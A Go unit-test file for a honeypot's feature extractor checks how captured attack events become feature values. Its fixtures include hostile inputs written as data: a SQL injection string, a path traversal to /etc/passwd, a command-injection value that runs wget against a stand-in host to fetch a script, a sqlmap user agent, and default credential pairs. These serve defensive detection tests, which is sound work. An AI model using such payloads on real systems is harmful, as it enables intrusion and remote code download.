package features

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"

	"tenebrinet/internal/event"
)

func baseEvent(service event.Service) *event.AttackEvent {
	start := time.Date(2025, 3, 14, 9, 26, 53, 0, time.UTC)
	return &event.AttackEvent{
		Fingerprint: "abc123",
		SourceIP:    "203.0.113.5",
		Service:     service,
		StartTime:   start,
		EndTime:     start.Add(12 * time.Second),
	}
}

func TestExtractIsTotal(t *testing.T) {
	// Every service, even with an empty capture, yields a full vector with
	// zero defaults.
	for _, svc := range []event.Service{event.ServiceShell, event.ServiceWeb, event.ServiceFileTransfer} {
		v := Extract(baseEvent(svc))
		assert.Equal(t, SchemaVersion, v.Version)
		assert.Len(t, v.Slice(), NumFeatures)
		assert.Equal(t, float64(0), v.Values[FeatCommandCount])
		assert.Equal(t, float64(0), v.Values[FeatEntropy])
	}
}

func TestExtractBasicCounters(t *testing.T) {
	ev := baseEvent(event.ServiceShell)
	ev.BytesReceived = 420
	ev.Commands = []event.CapturedCommand{{Command: "whoami"}, {Command: "uname -a"}}
	ev.Credentials = []event.CredentialAttempt{
		{Username: "root", Password: "root", Success: false},
		{Username: "admin", Password: "toor", Success: true},
	}
	ev.AuthFailures = 1

	v := Extract(ev)
	assert.Equal(t, float64(12), v.Values[FeatDuration])
	assert.Equal(t, float64(420), v.Values[FeatPayloadSize])
	assert.Equal(t, float64(2), v.Values[FeatCommandCount])
	assert.Equal(t, float64(2), v.Values[FeatCredentialCount])
	assert.Equal(t, 0.5, v.Values[FeatFailedAuthRate])
	assert.Equal(t, float64(9), v.Values[FeatHourOfDay])
	assert.Equal(t, float64(1), v.Values[FeatServiceShell])
	assert.Equal(t, float64(0), v.Values[FeatServiceWeb])
}

func TestExtractSQLInjectionKeywords(t *testing.T) {
	ev := baseEvent(event.ServiceWeb)
	ev.Requests = []event.CapturedRequest{{
		Method: "GET",
		Path:   "/index.php",
		Query:  "id=1' OR '1'='1",
	}}

	v := Extract(ev)
	assert.Greater(t, v.Values[FeatSQLKeywords], float64(0), "injection query should flag SQL keywords")
}

func TestExtractScannerAgent(t *testing.T) {
	ev := baseEvent(event.ServiceWeb)
	ev.Requests = []event.CapturedRequest{{
		Method:    "GET",
		Path:      "/",
		UserAgent: "sqlmap/1.7#stable (https://sqlmap.org)",
	}}

	v := Extract(ev)
	assert.Equal(t, float64(1), v.Values[FeatScannerAgent])
}

func TestExtractTraversalAndCmdInjection(t *testing.T) {
	ev := baseEvent(event.ServiceWeb)
	ev.Requests = []event.CapturedRequest{{
		Method: "GET",
		Path:   "/../../etc/passwd",
		Query:  "cmd=;wget http://203.0.113.9/x.sh",
	}}

	v := Extract(ev)
	assert.Greater(t, v.Values[FeatTraversalKeywords], float64(0))
	assert.Greater(t, v.Values[FeatCmdInjectionKeywords], float64(0))
}

func TestShannonEntropy(t *testing.T) {
	assert.Equal(t, float64(0), shannonEntropy(nil))
	assert.Equal(t, float64(0), shannonEntropy([]byte("aaaa")))

	// Uniform two-symbol input has exactly one bit of entropy.
	assert.InDelta(t, 1.0, shannonEntropy([]byte("abab")), 1e-9)

	// Entropy is bounded by eight bits per byte.
	var all [256]byte
	for i := range all {
		all[i] = byte(i)
	}
	assert.InDelta(t, 8.0, shannonEntropy(all[:]), 1e-9)
}
